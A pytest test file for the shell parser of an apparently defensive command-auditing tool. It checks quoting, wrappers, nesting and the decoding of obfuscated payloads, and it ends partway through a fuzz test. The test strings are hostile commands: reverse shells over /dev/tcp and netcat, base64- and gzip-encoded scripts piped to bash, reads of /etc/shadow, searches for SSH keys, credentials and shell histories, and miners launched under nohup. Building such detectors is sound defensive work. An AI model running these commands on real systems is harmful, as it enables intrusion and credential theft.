"""The shell parser: words, quoting, expansion, lists, compound commands, redirections,
here-docs, wrappers, nesting, payload decoding, spans, broken and pathological input."""

from __future__ import annotations

import base64
import gzip
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import watchkeeper.audit.shell as shell_mod
from watchkeeper.audit._shell_lex import lex
from watchkeeper.audit.shell import (
    MAX_TEXT,
    SimpleCommand,
    commands_from_argv,
    parse_script,
    parse_shell,
    script_env,
)


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def argvs(text: str) -> list[tuple[str, ...]]:
    return [c.argv for c in parse_shell(text)]


def pairs(text: str) -> list[tuple[tuple[str, ...], tuple[str, ...]]]:
    return [(c.argv, c.via) for c in parse_shell(text)]


# -- words and quoting ----------------------------------------------------------------------------

WORDS = [
    ("ls -la", [("ls", "-la")]),
    ("  ls\t-la  ", [("ls", "-la")]),
    ("echo 'a b' \"c d\" e", [("echo", "a b", "c d", "e")]),
    ("echo a'b'\"c\"d", [("echo", "abcd")]),
    ("echo ''", [("echo", "")]),
    ('echo ""', [("echo", "")]),
    ("echo $'a\\tb\\x41'", [("echo", "a\tbA")]),
    ("echo a\\ b", [("echo", "a b")]),
    ("echo \"a \\\"q\\\" \\$x\"", [("echo", 'a "q" $x')]),
    ("echo 'it'\\''s'", [("echo", "it's")]),
    ("echo one \\\n two", [("echo", "one", "two")]),
    ("echo $HOME ${USER}", [("echo", "$HOME", "${USER}")]),
    ("echo ${X:-default}", [("echo", "${X:-default}")]),
    ("echo $1 $@ $?", [("echo", "$1", "$@", "$?")]),
    ("echo a#b # a comment", [("echo", "a#b")]),
    ("echo {a,b,c}", [("echo", "a", "b", "c")]),
    ("echo '{a,b}'", [("echo", "{a,b}")]),
    ("cat${IFS}/etc/passwd", [("cat", "/etc/passwd")]),
    ("echo $((1 + 2))", [("echo", "$((1 + 2))")]),
    ("echo *.py ~/x", [("echo", "*.py", "~/x")]),
]


@pytest.mark.parametrize(("text", "expected"), WORDS)
def test_words(text: str, expected: list[tuple[str, ...]]) -> None:
    assert argvs(text) == expected


# -- variables ---------------------------------------------------------------------------------------

VARIABLES = [
    ("A=evil.com; curl http://$A/x", [(), ("curl", "http://evil.com/x")]),
    ("A=evil.com\ncurl \"http://${A}/x\"", [(), ("curl", "http://evil.com/x")]),
    ("export H=1.2.3.4 P=80; nc $H $P", [("export", "H=1.2.3.4", "P=80"), ("nc", "1.2.3.4", "80")]),
    ("C='curl -s x.sh'; $C", [(), ("curl", "-s", "x.sh")]),
    ("C='curl -s x.sh'; \"$C\"", [(), ("curl -s x.sh",)]),
    ("A=1; unset A; echo $A", [(), ("unset", "A"), ("echo", "$A")]),
    ("A=x; A+=y; echo $A", [(), (), ("echo", "xy")]),
    ("H=h; echo ${H:-dflt} ${Z:-dflt}", [(), ("echo", "h", "${Z:-dflt}")]),
    ("echo $UNKNOWN/x", [("echo", "$UNKNOWN/x")]),
]


@pytest.mark.parametrize(("text", "expected"), VARIABLES)
def test_variables(text: str, expected: list[tuple[str, ...]]) -> None:
    assert argvs(text) == expected


def test_env_prefix_and_script_env() -> None:
    cmds = parse_shell("HTTP_PROXY=http://p:8080 curl x")
    assert cmds[0].assignments == (("HTTP_PROXY", "http://p:8080"),)
    assert cmds[0].argv == ("curl", "x")
    assert script_env("A=1; export B=2; C=3 cmd") == {"A": "1", "B": "2"}
    assert argvs("echo $T") == [("echo", "$T")]
    assert [c.argv for c in parse_script("echo $T", env={"T": "v"}).commands] == [("echo", "v")]


# -- lists, pipelines, compound commands ------------------------------------------------------------

STRUCTURE = [
    ("a; b && c || d & e", [("a",), ("b",), ("c",), ("d",), ("e",)]),
    ("a\nb\n\nc", [("a",), ("b",), ("c",)]),
    ("a | b |& c", [("a",), ("b",), ("c",)]),
    ("(a; b) && { c; d; }", [("a",), ("b",), ("c",), ("d",)]),
    ("if [ -f x ]; then a; elif b; then c; else d; fi", [("[", "-f", "x", "]"), ("a",), ("b",), ("c",), ("d",)]),
    ("for f in $(ls); do rm \"$f\"; done", [("ls",), ("rm", "$f")]),
    ("for ((i=0;i<3;i++)); do echo $i; done", [("echo", "$i")]),
    ("while read l; do echo \"$l\"; done < in.txt", [("read", "l"), ("echo", "$l"), ()]),
    ("until false; do sleep 1; done", [("false",), ("sleep", "1")]),
    ("case $x in a|b) echo a;; *) curl x;; esac; ls", [("echo", "a"), ("curl", "x"), ("ls",)]),
    ("case \"$1\" in\n  start) run ;;\n  (stop) halt ;;\nesac", [("run",), ("halt",)]),
    ("f() { nc h 1; }; f", [("nc", "h", "1"), ("f",)]),
    ("function g { id; }\ng", [("id",), ("g",)]),
    ("[[ $a < $b ]] && echo yes", [("echo", "yes")]),
    ("(( x > 3 )) || echo no", [("echo", "no")]),
    ("! grep -q x f && echo missing", [("grep", "-q", "x", "f"), ("echo", "missing")]),
    ("time make -j4", [("make", "-j4")]),
    ("echo a)", [("echo", "a")]),
]


@pytest.mark.parametrize(("text", "expected"), STRUCTURE)
def test_structure(text: str, expected: list[tuple[str, ...]]) -> None:
    assert argvs(text) == expected


def test_pipeline_info_and_background() -> None:
    a, b, c = parse_shell("a 1 | b 2 | c 3 &")
    assert (a.pipe_pos, a.pipe_len, a.pipe_prev, a.pipe_next) == (0, 3, None, ("b", "2"))
    assert (b.pipe_prev, b.pipe_next) == (("a", "1"), ("c", "3"))
    assert (c.pipe_pos, c.pipe_next) == (2, None)
    assert a.background and c.background
    (d,) = parse_shell("d")
    assert not d.background and d.pipe_len == 1


# -- redirections and here-docs ------------------------------------------------------------------------

REDIRECTS = [
    ("echo x > out", [(">", "out", None)]),
    ("echo x >> out", [(">>", "out", None)]),
    ("cmd 2>&1", [(">&", "1", 2)]),
    ("cmd 2> err.log", [(">", "err.log", 2)]),
    ("cmd &> all.log", [("&>", "all.log", None)]),
    ("cmd &>> all.log", [("&>>", "all.log", None)]),
    ("cmd < in", [("<", "in", None)]),
    ("exec 3<> /dev/tcp/h/80", [("<>", "/dev/tcp/h/80", 3)]),
    ("cmd >| f", [(">|", "f", None)]),
    ("cat <<< 'hello'", [("<<<", "hello", None)]),
    ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", [(">&", "/dev/tcp/1.2.3.4/4444", None), (">&", "1", 0)]),
]


@pytest.mark.parametrize(("text", "expected"), REDIRECTS)
def test_redirects(text: str, expected: list[tuple[str, str, int | None]]) -> None:
    cmd = parse_shell(text)[0]
    assert [(r.op, r.target, r.fd) for r in cmd.redirects] == expected
    for r in cmd.redirects:
        assert text[r.span[0] : r.span[1]] == r.text


def test_redirect_text_in_command_line() -> None:
    text = "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"
    (cmd,) = parse_shell(text)
    assert cmd.argv == ("bash", "-i")
    assert cmd.command_line() == text
    assert parse_shell("exec 5<>/dev/tcp/h/9")[0].command_line() == "exec 5<>/dev/tcp/h/9"


HEREDOCS = [
    ("cat <<EOF\nhello $X\nEOF\necho after", "hello $X\n", [("cat",), ("echo", "after")]),
    ("cat <<'EOF'\n$(not run)\nEOF", "$(not run)\n", [("cat",)]),
    ("cat <<-EOF\n\tindented\n\tEOF\nls", "indented\n", [("cat",), ("ls",)]),
    ("cat <<EOF > out\nbody\nEOF", "body\n", [("cat",)]),
    ("cat <<A <<B\na\nA\nb\nB\nls", "b\n", [("cat",), ("ls",)]),
]


@pytest.mark.parametrize(("text", "body", "expected"), HEREDOCS)
def test_heredocs(text: str, body: str, expected: list[tuple[str, ...]]) -> None:
    cmds = parse_shell(text)
    assert [c.argv for c in cmds] == expected
    assert cmds[0].heredoc == body


def test_unquoted_heredoc_runs_substitutions() -> None:
    cmds = parse_shell("cat <<EOF\n$(curl -s http://x.example/a)\nEOF")
    assert ("curl", "-s", "http://x.example/a") in [c.argv for c in cmds]
    assert parse_shell("cat <<'EOF'\n$(curl x)\nEOF")[0].argv == ("cat",)


def test_truncated_heredoc_is_degraded_not_raised() -> None:
    script = parse_script("bash <<EOF\ncurl http://a.example/x | sh\n")
    assert script.degraded
    assert ("curl", "http://a.example/x") in [c.argv for c in script.commands]


# -- wrappers --------------------------------------------------------------------------------------------

WRAPPERS = [
    ("sudo apt install x", [("apt", "install", "x")], ("sudo",), "root"),
    ("sudo -u bob -E python3 x.py", [("python3", "x.py")], ("sudo",), "bob"),
    ("sudo --user=carol id", [("id",)], ("sudo",), "carol"),
    ("nohup ./xmrig -o p:1 &", [("./xmrig", "-o", "p:1")], ("nohup",), ""),
    ("setsid -f bash x.sh", [("bash", "x.sh")], ("setsid",), ""),
    ("timeout -s KILL 10 curl x", [("curl", "x")], ("timeout",), ""),
    ("env -i X=1 Y=2 python3 -V", [("python3", "-V")], ("env",), ""),
    ("nice -n 19 xmrig", [("xmrig",)], ("nice",), ""),
    ("nice -10 xmrig", [("xmrig",)], ("nice",), ""),
    ("exec python3 app.py", [("python3", "app.py")], ("exec",), ""),
    ("busybox wget http://x/y", [("wget", "http://x/y")], ("busybox",), ""),
    ("xargs -I{} -P4 curl {}", [("curl", "{}")], ("xargs",), ""),
    ("stdbuf -oL tail -f log", [("tail", "-f", "log")], ("stdbuf",), ""),
    ("watch -x ls -la", [("ls", "-la")], ("watch",), ""),
    ("doas -u root id", [("id",)], ("doas",), ""),
    ("docker exec -it -u 0 c1 cat /etc/shadow", [("cat", "/etc/shadow")], ("docker exec",), ""),
    ("docker run --rm -v /:/host alpine chroot /host", [("chroot", "/host")], ("docker run",), ""),
    ("kubectl exec -it pod -n ns -- env", [("env",)], ("kubectl exec",), ""),
    ("find . -name '*.log' -exec rm -f {} \\;", [("rm", "-f", "{}")], ("find -exec",), ""),
    ("screen -dmS m ./miner --url x", [("./miner", "--url", "x")], ("screen",), ""),
    ("sshpass -p pw ssh u@h", [("ssh", "u@h")], ("sshpass",), ""),
    ("proxychains4 -q curl http://x", [("curl", "http://x")], ("proxychains4",), ""),
    ("command -v python3", [], (), ""),
]


@pytest.mark.parametrize(("text", "inner", "via", "user"), WRAPPERS)
def test_wrappers(text: str, inner: list[tuple[str, ...]], via: tuple[str, ...], user: str) -> None:
    cmds = parse_shell(text)
    nested = [c for c in cmds if c.via]
    assert [c.argv for c in nested[:1]] == inner
    if inner:
        c = nested[0]
        assert c.via == via
        assert c.parent is cmds[0]
        assert c.user == user
        assert c.span[0] == c.arg_spans[0][0]
        assert text[slice(*c.span)].startswith(c.argv[0])


def test_wrapper_chain() -> None:
    got = pairs("timeout 10 nohup env X=1 python3 x.py &")
    assert got[-1] == (("python3", "x.py"), ("timeout", "nohup", "env"))
    assert parse_shell("env X=1 Y=2 cmd")[-1].assignments == (("X", "1"), ("Y", "2"))


# -- what loops, find and xargs hand to a command -----------------------------------------------------------


def test_for_loop_over_files_binds_the_variable() -> None:
    text = 'for f in ~/.bash_history /home/*/.zsh_history; do grep -i pass "$f"; done'
    cmds = parse_shell(text)
    assert [c.argv for c in cmds] == [
        ("grep", "-i", "pass", "$f"),  # as written: rules about the loop's shape read it
        ("grep", "-i", "pass", "~/.bash_history"),
        ("grep", "-i", "pass", "/home/*/.zsh_history"),
    ]
    assert cmds[1].span == cmds[2].span == cmds[0].span
    assert text[slice(*cmds[1].span)] == 'grep -i pass "$f"'


@pytest.mark.parametrize(("text", "expected"), [
    # ${f}, a redirection target, a script nested in the body, $HOME values
    ("for f in ./a.log ./b.log; do gzip -9 ${f}; done",
     [("gzip", "-9", "${f}"), ("gzip", "-9", "./a.log"), ("gzip", "-9", "./b.log")]),
    ("for k in $HOME/.netrc; do sh -c \"cat $k\"; done",
     [("sh", "-c", "cat $k"), ("cat", "$k"), ("sh", "-c", "cat $HOME/.netrc"), ("cat", "$HOME/.netrc")]),
    # values that are not files (ports, hosts, numbers, brace ranges, unknown output) are not bound:
    # loops over ports or hosts keep their shape only
    ("for p in 22 80 443; do nc -z host $p; done", [("nc", "-z", "host", "$p")]),
    ("for h in web1 db.example.com 10.0.0.2; do ssh $h uptime; done", [("ssh", "$h", "uptime"), ("uptime",)]),
    ("for i in {1..254}; do ping -c1 10.0.0.$i; done", [("ping", "-c1", "10.0.0.$i")]),
    ("for f in $(ls); do cat $f; done", [("ls",), ("cat", "$f")]),
    # commands that do not use the variable, a variable whose name only starts the same
    ("for f in /etc/hosts; do echo $fx; date; done", [("echo", "$fx"), ("date",)]),
    # a while loop inside does not close the for loop (the bare redirection ``done < $d/list``
    # is bound too); an inner header built from the outer variable is not followed
    ("for d in /srv/a; do while read l; do echo $l; done < $d/list; cat $d/x; done",
     [("read", "l"), ("echo", "$l"), (), ("cat", "$d/x"), (), ("cat", "/srv/a/x")]),
    ("for d in /a /b; do for f in $d/x; do cat $f; done; done", [("cat", "$f")]),
    ("for d in /a; do for f in /b; do cp $d $f; done; done",
     [("cp", "$d", "$f"), ("cp", "$d", "/b"), ("cp", "/a", "$f"), ("cp", "/a", "/b")]),
])
def test_for_loop_binding_cases(text: str, expected: list[tuple[str, ...]]) -> None:
    assert argvs(text) == expected


def test_for_loop_binding_redirections_and_caps() -> None:
    cmds = parse_shell("for f in ~/.bashrc ~/.profile; do echo 'alias ll=ls' >> \"$f\"; done")
    assert [r.target for c in cmds for r in c.redirects] == ["$f", "~/.bashrc", "~/.profile"]
    assert cmds[1].redirects[0].text == '>> "~/.bashrc"'
    many = " ".join(f"/d/f{i}" for i in range(shell_mod.MAX_LOOP_VALUES + 10))
    assert len(parse_shell(f"for f in {many}; do cat $f; done")) == 1 + shell_mod.MAX_LOOP_VALUES
    # nested loops cannot multiply without bound
    vals = " ".join(f"/d/{i}" for i in range(32))
    text = f"for a in {vals}; do for b in {vals}; do for c in {vals}; do cp $a $b $c; done; done; done"
    script = parse_script(text)
    assert len(script.commands) <= 1 + shell_mod.MAX_UNROLLED + 64


@pytest.mark.parametrize(("argv", "expected"), [
    (("find", ".", "-name", ".env*"), ["./**/.env*"]),
    (("find", "/", "-type", "f", "-name", "*_history"), ["/**/*_history"]),
    (("find", "/home", "/root", "-iname", "id_rsa*", "-o", "-name", "*.pem"),
     ["/home/**/id_rsa*", "/home/**/*.pem", "/root/**/id_rsa*", "/root/**/*.pem"]),
    (("find", "-L", "~/", "-path", "*/.ssh/*"), ["*/.ssh/*"]),
    (("find", "/var/log", "-type", "f"), ["/var/log/**"]),
    (("find",), ["./**"]),
    (("find", ".", "!", "-name", "*.py", "-name", "*.cfg"), ["./**/*.cfg"]),
    (("find", ".", "-not", "-name", "*.py"), ["./**"]),
    (("find", ".", "-name", "*.py", "-exec", "grep", "-name", "x", "{}", ";"), ["./**/*.py"]),
])
def test_find_matches(argv: tuple[str, ...], expected: list[str]) -> None:
    from watchkeeper.audit._shell_wrap import find_matches

    assert find_matches(argv) == expected


@pytest.mark.parametrize(("argv", "expected"), [
    (("xargs", "cat"), None),
    (("xargs", "-0", "-n", "1", "cat"), None),
    (("xargs", "-I", "X", "cp", "X", "/d"), "X"),
    (("xargs", "-I{}", "cp", "{}", "/d"), "{}"),
    (("xargs", "-P", "4", "-I", "@", "cat", "@"), "@"),
    (("xargs", "-i", "cat", "{}"), "{}"),
    (("xargs", "--replace=F", "cat", "F"), "F"),
    (("xargs", "--max-args", "2", "-I%", "cat"), "%"),
])
def test_xargs_placeholder(argv: tuple[str, ...], expected: str | None) -> None:
    from watchkeeper.audit._shell_wrap import xargs_placeholder

    assert xargs_placeholder(argv) == expected


@pytest.mark.parametrize(("text", "expected"), [
    ("find / -name '.*_history' -exec grep -iE 'pass|key' {} +",
     [("grep", "-iE", "pass|key", "{}"), ("grep", "-iE", "pass|key", "/**/.*_history")]),
    ("find ~ -name id_rsa -exec sh -c 'cat {}' \\;",
     [("sh", "-c", "cat {}"), ("cat", "{}"), ("sh", "-c", "cat ~/**/id_rsa"), ("cat", "~/**/id_rsa")]),
    ("find . -name '.env*' -print0 | xargs -0 cat",
     [("cat",), ("cat", "./**/.env*")]),
    ("find /srv -name '*.pem' | xargs -I F cp F /tmp/.k/",
     [("cp", "F", "/tmp/.k/"), ("cp", "/srv/**/*.pem", "/tmp/.k/")]),
    ("echo ~/.aws/credentials ~/.netrc | xargs cat",
     [("cat",), ("cat", "~/.aws/credentials", "~/.netrc")]),
    ("ls /home/*/.bash_history | xargs grep -l token",
     [("grep", "-l", "token"), ("grep", "-l", "token", "/home/*/.bash_history")]),
    # input xargs cannot know: the command as written only
    ("git ls-files | xargs wc -l", [("wc", "-l")]),
    ("find . -name '*.pyc' -delete", []),
])
def test_find_and_xargs_commands_receive_what_they_are_given(
        text: str, expected: list[tuple[str, ...]]) -> None:
    cmds = parse_shell(text)
    nested = [c for c in cmds if c.via]
    assert [c.argv for c in nested] == expected
    for c in nested:
        assert len(c.arg_spans) == len(c.argv)
        assert c.parent is not None


# -- nesting ---------------------------------------------------------------------------------------------

NESTING = [
    ("sh -c 'id; whoami'", ["id", "whoami"], ("sh -c",)),
    ("bash -c \"curl x | sh\"", ["curl", "sh"], ("bash -c",)),
    ("bash -lc 'make test'", ["make"], ("bash -lc",)),
    ("bash -x -c 'ls'", ["ls"], ("bash -c",)),
    ("zsh -c 'id'", ["id"], ("zsh -c",)),
    ("dash -c 'id'", ["id"], ("dash -c",)),
    ("/bin/sh -c 'id'", ["id"], ("sh -c",)),
    ("su -c 'cat /etc/shadow' root", ["cat"], ("su -c",)),
    ("su - admin -c 'id'", ["id"], ("su -c",)),
    ("eval \"curl x; id\"", ["curl", "id"], ("eval",)),
    ("eval curl x", ["curl"], ("eval",)),
    ("ssh -p 2222 user@host 'cat /etc/passwd | nc h 1'", ["cat", "nc"], ("ssh",)),
    ("ssh host ls -la /tmp", ["ls"], ("ssh",)),
    ("ssh -o ProxyCommand='nc -x p:1080 %h %p' host", ["nc"], ("ssh ProxyCommand",)),
    ("watch -n 5 'ps aux | grep x'", ["ps", "grep"], ("watch",)),
    ("flock /tmp/l -c 'id'", ["id"], ("flock -c",)),
    ("script -qc 'id' /dev/null", ["id"], ("script -c",)),
    ("tmux new -d 'nc -l 4444'", ["nc"], ("tmux new",)),
    ("socat TCP:h:1 EXEC:/bin/bash", ["/bin/bash"], ("socat EXEC",)),
    ("nc -e /bin/sh 10.0.0.1 4444", ["/bin/sh"], ("nc -e",)),
    ("env -S 'curl -s x'", ["curl"], ("env -S",)),
]


@pytest.mark.parametrize(("text", "names", "via"), NESTING)
def test_nesting(text: str, names: list[str], via: tuple[str, ...]) -> None:
    cmds = parse_shell(text)
    inner = [c for c in cmds if c.via == via]
    assert [c.argv[0] for c in inner] == names
    for c in inner:
        assert (c.parent is None) == (via == ("eval",))  # eval runs in the same shell
        s, e = c.span
        assert 0 <= s <= e <= len(text)


def test_nested_spans_are_exact_when_verbatim() -> None:
    text = "sudo bash -c 'curl http://x.example/a | sh; id'"
    cmds = parse_shell(text)
    by_name = {c.argv[0]: c for c in cmds if c.via == ("sudo", "bash -c")}
    assert text[slice(*by_name["curl"].span)] == "curl http://x.example/a"
    assert text[slice(*by_name["id"].span)] == "id"
    assert text[slice(*cmds[1].span)] == "bash -c 'curl http://x.example/a | sh; id'"


def test_nested_spans_fall_back_to_the_argument() -> None:
    text = "bash -c \"echo \\\"x\\\" ; id\""
    cmds = parse_shell(text)
    inner = [c for c in cmds if c.via == ("bash -c",)]
    assert [c.argv for c in inner] == [("echo", "x"), ("id",)]
    for c in inner:
        assert text[slice(*c.span)] == "\"echo \\\"x\\\" ; id\""


def test_xargs_and_find_exec_shells() -> None:
    got = pairs("ls | xargs -I{} sh -c 'echo {}; id'")
    assert (("id",), ("xargs", "sh -c")) in got
    got = pairs("find / -perm -4000 -exec sh -c 'id' \\;")
    assert (("id",), ("find -exec", "sh -c")) in got


def test_substitutions_are_emitted_with_via() -> None:
    text = "echo $(whoami) `hostname` <(curl -s x.example)"
    got = pairs(text)
    assert (("whoami",), ("$(...)",)) in got
    assert (("hostname",), ("`...`",)) in got
    assert (("curl", "-s", "x.example"), ("<(...)",)) in got
    cmds = parse_shell(text)
    who = next(c for c in cmds if c.argv == ("whoami",))
    assert text[slice(*who.span)] == "whoami"


def test_known_substitution_output_is_used() -> None:
    cmds = parse_shell("echo $(echo hi) \"$(printf 'a b')\"")
    assert cmds[-1].argv == ("echo", "hi", "a b")


def test_depth_is_capped() -> None:
    text = "sh -c " * 40 + "id"
    script = parse_script(text)
    assert script.commands
    deep = max(len(c.via) for c in script.commands)
    assert deep <= shell_mod.MAX_VIA
    nested = "echo " + "$(echo " * 50 + "x" + ")" * 50
    script = parse_script(nested)
    assert script.degraded
    assert max(len(c.via) for c in script.commands) <= shell_mod.MAX_DEPTH


# -- stdin data flow and payload decoding ---------------------------------------------------------------

PAYLOADS = [
    (f"echo {b64('curl http://a.example/x')} | base64 -d | bash", "curl", ("base64 | bash",)),
    (f"echo {b64('id')} | base64 --decode | sh", "id", ("base64 | sh",)),
    (f"echo {b64('id')} | base64 -di | sh", "id", ("base64 | sh",)),
    (f"echo '{b64('id')}' | openssl base64 -d | sh", "id", ("base64 | sh",)),
    (f"echo {b64('id')} | openssl enc -base64 -d | sh", "id", ("base64 | sh",)),
    (f"base64 -d <<< {b64('whoami')} | bash", "whoami", ("base64 | bash",)),
    (f"bash <<< $(echo {b64('uname -a')} | base64 -d)", "uname", ("here-string | bash",)),
    (f"echo {b64('id').encode().hex()} | xxd -r -p | base64 -d | sh", "id", ("xxd | base64 | sh",)),
    ("echo 6964 | xxd -r -p | sh", "id", ("xxd | sh",)),
    ("printf '\\x69\\x64' | sh", "id", ("printf | sh",)),
    ("printf '%s\\n' 'curl x' | bash", "curl", ("printf | bash",)),
    ("echo -e '\\x69\\x64' | sh", "id", ("echo | sh",)),
    ("echo 'di' | rev | sh", "id", ("rev | sh",)),
    ("echo 'vq' | tr 'a-z' 'n-za-m' | sh", "id", ("tr | sh",)),
    ("cat <<'EOF' | sh\nwhoami\nEOF", "whoami", ("heredoc | sh",)),
    ("bash <<EOF\nwhoami\nEOF", "whoami", ("heredoc | bash",)),
    ("sh -s <<EOF\nid\nEOF", "id", ("heredoc | sh",)),
    ("echo 'curl x' | at now + 1 minute", "curl", ("echo | at",)),
    (f"echo {b64('id')} | base64 -d | sudo bash", "id", ("sudo", "base64 | bash")),
    (f"sh -c \"$(echo {b64('id; w')} | base64 -d)\"", "id", ("base64 | sh -c",)),
    (f"eval $(echo {b64('whoami')} | base64 -d)", "whoami", ("base64 | eval",)),
    (f"bash <(echo {b64('id')} | base64 -d)", "id", ("base64 | bash",)),
    ("{echo,Y2F0IC9ldGMvcGFzc3dk}|{base64,-d}|bash", "cat", ("base64 | bash",)),
]


@pytest.mark.parametrize(("text", "name", "via"), PAYLOADS)
def test_payloads(text: str, name: str, via: tuple[str, ...]) -> None:
    cmds = parse_shell(text)
    hits = [c for c in cmds if c.argv and c.argv[0] == name and c.via == via]
    assert hits, [(c.argv, c.via) for c in cmds]
    for c in hits:
        assert 0 <= c.span[0] < c.span[1] <= len(text)


def test_gzip_chain() -> None:
    blob = base64.b64encode(gzip.compress(b"curl http://g.example/x | sh\n")).decode()
    cmds = parse_shell(f"echo {blob} | base64 -d | gunzip | sh")
    assert (("curl", "http://g.example/x"), ("base64 | gunzip | sh",)) in [(c.argv, c.via) for c in cmds]
    cmds = parse_shell(f"echo {blob} | base64 -d | gzip -dc | bash")
    assert any(c.argv[:1] == ("curl",) for c in cmds)


def test_decoded_payload_span_points_at_encoded_word() -> None:
    blob = b64("id")
    text = f"echo {blob} | base64 -d | sh"
    inner = [c for c in parse_shell(text) if c.via]
    assert [text[slice(*c.span)] for c in inner] == [blob]


def test_heredoc_payload_spans_are_exact() -> None:
    text = "cat <<'EOF' | sh\nwhoami\ncurl http://a.example\nEOF"
    inner = [c for c in parse_shell(text) if c.via]
    assert [text[slice(*c.span)] for c in inner] == ["whoami", "curl http://a.example"]


def test_stdout_known_for_file_redirects() -> None:
    blob = b64("#!/bin/sh\nid")
    cmds = parse_shell(f"echo {blob} | base64 -d > /tmp/x.sh")
    assert cmds[1].stdout is not None
    assert cmds[1].stdout.data == b"#!/bin/sh\nid"
    assert cmds[1].stdout.chain == ("base64",)
    cat = parse_shell("cat > x.sh <<'EOF'\nid\nEOF")[0]
    assert cat.stdout is not None and cat.stdout.text() == "id\n"


def test_non_shell_sinks_keep_stdin() -> None:
    py = parse_shell("python3 - <<'EOF'\nimport os\nEOF")[0]
    assert py.stdin is not None and py.stdin.text() == "import os\n"
    assert py.stdin.source == "heredoc"
    piped = parse_shell(f"echo {b64('print(1)')} | base64 -d | python3")[-1]
    assert piped.stdin is not None and piped.stdin.text() == "print(1)"
    assert piped.stdin.label("python3") == "base64 | python3"


# -- spans ---------------------------------------------------------------------------------------------

SPANS = [
    ("ls -la", ["ls -la"]),
    ("cd /repo && pytest -q 2>&1 | tail -5", ["cd /repo", "pytest -q 2>&1", "tail -5"]),
    ("A=1 B=2 cmd x > o", ["A=1 B=2 cmd x > o"]),
    ("echo 'a;b'; ls", ["echo 'a;b'", "ls"]),
    ("x=$(id)", ["id", "x=$(id)"]),
    ("if true; then curl h; fi", ["true", "curl h"]),
]


@pytest.mark.parametrize(("text", "slices"), SPANS)
def test_spans_slice_the_original(text: str, slices: list[str]) -> None:
    assert [text[slice(*c.span)] for c in parse_shell(text)] == slices


def test_base_offsets_spans() -> None:
    (cmd,) = parse_shell("ls -la", base=10)
    assert cmd.span == (10, 16)
    assert cmd.arg_spans == ((10, 12), (13, 16))


def test_commands_from_argv() -> None:
    cmds = commands_from_argv(("bash", "-c", "curl x | sh"), span=(3, 9))
    assert [(c.argv, c.via) for c in cmds] == [
        (("bash", "-c", "curl x | sh"), ()),
        (("curl", "x"), ("bash -c",)),
        (("sh",), ("bash -c",)),
    ]
    assert all(c.span == (3, 9) for c in cmds)
    assert commands_from_argv((), span=(0, 0)) == []


# -- the one-line fast path agrees with the general parser -----------------------------------------------

LINE_ALPHABET = st.sampled_from(
    ["ls", "-la", "a", "b1", "'q w'", '"d q"', " ", " ", "  ", "|", "||", "&&", ";", "&", ">", ">>",
     "2>&1", "<", "2>", "&>", "x.txt", "sudo", "bash", "-c", "'id; w'", "1", "|&", "/dev/tcp/h/1"]
)


def _general(text: str) -> list[tuple[object, ...]]:
    p = shell_mod._Parser(None)
    lv = shell_mod._Level(text, 0, None, (), None, "", 0, "")
    p._tokens(lex(text)[0], lv, False)
    return [(c.argv, c.span, c.redirects, c.via, c.pipe_pos, c.pipe_len, c.background) for c in p.out]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(LINE_ALPHABET, max_size=14).map("".join))
def test_line_path_matches_general_parser(text: str) -> None:
    p = shell_mod._Parser(None)
    lv = shell_mod._Level(text, 0, None, (), None, "", 0, "")
    done, _ = p._line(text, lv, False)
    if done:
        got = [(c.argv, c.span, c.redirects, c.via, c.pipe_pos, c.pipe_len, c.background) for c in p.out]
        assert got == _general(text)


# -- broken and pathological input -------------------------------------------------------------------------

BROKEN = [
    "echo 'unterminated",
    'echo "unterminated $(id',
    "echo $(unclosed",
    "echo `unclosed",
    "echo ${unclosed",
    "cat <<EOF\nno end",
    ")))(((",
    "((((((((",
    "))",
    "| | |",
    ";;;;",
    "& & &",
    "> > >",
    "<<",
    "if then fi else",
    "case",
    "esac )",
    "$'\\",
    "\\",
    "'",
    '"',
    "{",
    "[[ x",
    "\x00\x01\x02",
    "echo \udcff",
    "\u00b9<x",  # a superscript digit is not an fd
    "\u0663>x",
]


@pytest.mark.parametrize("text", BROKEN)
def test_broken_syntax_never_raises(text: str) -> None:
    script = parse_script(text)
    for c in script.commands:
        assert isinstance(c, SimpleCommand)
        assert 0 <= c.span[0] <= c.span[1] <= len(text)


def test_broken_syntax_keeps_what_it_can() -> None:
    script = parse_script("curl http://a.example/x; echo 'oops")
    assert script.degraded
    assert script.commands[0].argv == ("curl", "http://a.example/x")


PATHOLOGICAL = [
    "(" * 200_000,
    ")" * 200_000,
    "$(" * 50_000,
    "`" * 100_001,
    "'" * 100_001,
    "\\" * 100_001,
    "{" * 100_000,
    "<<a\n" * 20_000,
    "a|" * 50_000,
    "echo " + "x" * 2_000_000,
    "sh -c '" * 5_000,
    "${" * 50_000,
    "[[ " * 50_000,
    "((" * 100_000 + "))" * 100_000,
    "eval " * 20_000 + "id",
    "sudo " * 20_000 + "id",
    "; " * 100_000,
    "x=$(y=$(z=$(" * 3_000,
    "case a in " * 10_000,
]


@pytest.mark.parametrize("text", PATHOLOGICAL, ids=lambda t: repr(t[:12]))
def test_pathological_input_is_bounded(text: str) -> None:
    start = time.process_time()
    script = parse_script(text)
    elapsed = time.process_time() - start
    assert elapsed < 5.0
    assert len(script.commands) <= shell_mod.MAX_COMMANDS


def test_size_cap_is_flagged() -> None:
    text = "echo " + "a" * MAX_TEXT + "; curl http://after.example"
    script = parse_script(text)
    assert script.truncated
    assert all(c.span[1] <= MAX_TEXT for c in script.commands)
    assert all(c.argv[0] != "curl" for c in script.commands)
    many = parse_script("echo a; " * (shell_mod.MAX_COMMANDS + 50))
    assert many.truncated
    assert len(many.commands) == shell_mod.MAX_COMMANDS


SHELLISH = st.lists(
    st.sampled_from(list("ab $(){}[]'\"`\\|&;<>#=-\n\t*?~!/0123456789\x0b\xa0\x1c")
                    + ["<<", "$(", "sh -c ", "EOF", "${", "<<'E'\n", "\nE\n", "base64 -d|sh"]),
    max_size=60,
).map("".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(SHELLISH)
def test_fuzz_shellish(text: str) -> None:
    script = parse_script(text)
    for c in script.commands:
        assert 0 <= c.span[0] <= c.span[1] <= len(text)
        assert all(isinstance(a, str) for a in c.argv)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300))
def test_fuzz_bytes(data: bytes) -> None:
